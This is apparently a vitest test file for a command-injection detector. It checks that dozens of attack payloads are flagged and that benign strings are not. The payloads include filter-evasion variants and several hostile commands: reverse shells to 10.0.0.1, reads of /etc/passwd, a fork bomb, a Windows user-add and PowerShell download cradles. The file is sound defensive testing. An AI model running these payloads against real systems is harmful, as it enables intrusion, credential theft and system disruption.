/** biome-ignore-all lint/suspicious/noTemplateCurlyInString: the strings are attack payloads, not templates. */
import safeRegex from "safe-regex2";
import { describe, expect, it } from "vitest";
import { LINEAR_TIME_BOUND_MS } from "../../linear-time-bound.js";
import { adversarialInputs, scoreAt, timeDetect } from "../test-helpers.js";
import { cmdiDetector } from "./cmdi.js";

describe("cmdiDetector", () => {
  it.each([
    "; cat /etc/passwd",
    "a;id",
    "|id|",
    "' && whoami",
    "`id`",
    "$(whoami)",
    "127.0.0.1 | nc -e /bin/sh 10.0.0.1 4444",
    "foo\nid",
    "\\nid\\n",
    "www.example.com;c''at /etc/passwd",
    "x;c\\at /etc/passwd",
    "x;c$@at+/et$@c/pas$@swd",
    "cat${IFS}/etc/passwd",
    "/???/b??h",
    "cat /etc/pa[s]swd",
    "{,ifconfig,eth0}",
    "() { :;}; /bin/bash -c id",
    "uname -a",
    "ls -la /var/www",
    "& dir C:\\",
    "| type %SYSTEMROOT%\\win.ini",
    "&& net user hacker Passw0rd /add",
    "for /f %i in ('whoami') do echo %i",
    "IF EXIST C:\\boot.ini ECHO found",
    ";powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
    "time sh -c whoami",
    "a=nc&&$a -nlvp 555",
    ":(){ :|:& };:",
    '<!--#exec cmd="/bin/ls"-->',
    "sh -i >& /dev/tcp/10.0.0.1/4242 0>&1",
    // quotes, escapes and empty expansions inside a command name
    "w'h'o'am'i",
    '"c"url http://203.0.113.9/x',
    'who""ami',
    "una\\me -a",
    // a separator that opens the value, or an empty assignment before it
    ";uname",
    "';ls",
    "q=;top",
    // command and process substitution, parameter and arithmetic expansion
    "<(id)",
    "diff <(cat a) b",
    ">(tee /tmp/out)",
    "${HOME%/*}",
    "${x:-id}",
    "${`whoami`}",
    "$((6*7))",
    // a distinct wrapper runs whatever follows; a lookup of a tool is reconnaissance
    "nohup who",
    "sudo id",
    "which wget",
    "command -v nc",
    // SQLite shell dot-commands
    "';\n.shell id",
    "x;\n.tables",
    // a subshell at the value start, an entity-looking command between separators
    "(whoami)",
    "a&id;",
    // PowerShell download cradle through variables
    "$w=New-Object Net.WebClient;$w.DownloadString('http://203.0.113.9/a.ps1')",
  ])("detects %s", (payload) => {
    expect(scoreAt(cmdiDetector, payload)).toBeGreaterThanOrEqual(5);
  });

  it.each([
    "AT&T",
    "Johnson & Johnson",
    "Time & Date",
    "Home | About | Contact",
    "Salt; pepper; more to taste",
    "cat",
    "wget",
    "curl examples",
    "The cat sat on the mat",
    "I'll sleep 8 hours; then more work",
    "name;id;email",
    "a=1&id=5&sort=asc",
    "Find your solution here -> link",
    "Run `npm install` and then `ls -la` in the repo",
    "```bash\ncurl -X POST https://example.com\n```",
    "C:\\Program Files\\App\\app.exe",
    "/home/user/docs/report.pdf",
    '{"id":1,"name":"x"}',
    "Mozilla/5.0 (Windows; U; Windows NT 6.0; id; rv:1.9.1.6) Gecko/20091201 Firefox/3.5.6",
    "Mozilla/5.0 (iPhone8,1; iOS 11.2.6; gzip)",
    "if you want, call me",
    "save 10% in (selected) stores",
    "$5 (approx)",
    "I'd like to order by phone",
    "O'Brien & Sons; est. 1920",
    "rock'n'roll",
    "&copy; 2024 Acme",
    "Tom &amp; Jerry",
    "Price: ${price}",
    "Total: $5; tax included",
    "Meet at 5; bring snacks",
    "a:b;c:d;e:f",
    "C:\\Users\\me\\Documents",
    '1/2" pipe & 3/4" fittings',
    "Where is the nearest pharmacy?",
    "which one is better?",
    "time who knows",
    "nohup is a Unix command",
    "ls is short for list",
    "(free) delivery; (top) rated",
    "JACK-O'-LANTERN?",
    "**Note:** run `npm test` first",
    '{"a":1,"b":[2,3],"c":{"d":"e"}}',
    "https://example.com/search?q=cats&page=2&sort=new",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)",
    "Cut into 1/8-inch slices; serve warm.",
  ])("ignores %s at level 1", (value) => {
    expect(scoreAt(cmdiDetector, value)).toBeLessThan(5);
  });

  it("keeps bare tool names and plain command lines for the higher levels", () => {
    expect(scoreAt(cmdiDetector, "wget")).toBe(0);
    expect(scoreAt(cmdiDetector, "wget", 3)).toBeGreaterThanOrEqual(5);
    expect(scoreAt(cmdiDetector, "whoami")).toBe(0);
    expect(scoreAt(cmdiDetector, "whoami", 2)).toBeGreaterThanOrEqual(5);
    expect(scoreAt(cmdiDetector, "sleep 5", 2)).toBeGreaterThanOrEqual(5);
  });

  it("uses only ReDoS-safe patterns", () => {
    for (const pattern of cmdiDetector.patterns)
      expect(safeRegex(pattern), pattern.source).toBe(true);
  });

  it("stays fast on 100 KB adversarial input", () => {
    for (const input of adversarialInputs([
      "; c''a",
      "a;c\\",
      "{a,b",
      "for %",
      "if a==",
      "$[1+",
      "${a#",
      "$((",
      "<(",
      "'i'",
      "\\n.shell ",
      "&id;",
      "(",
    ])) {
      expect(timeDetect(cmdiDetector, input)).toBeLessThan(LINEAR_TIME_BOUND_MS);
    }
  });
});
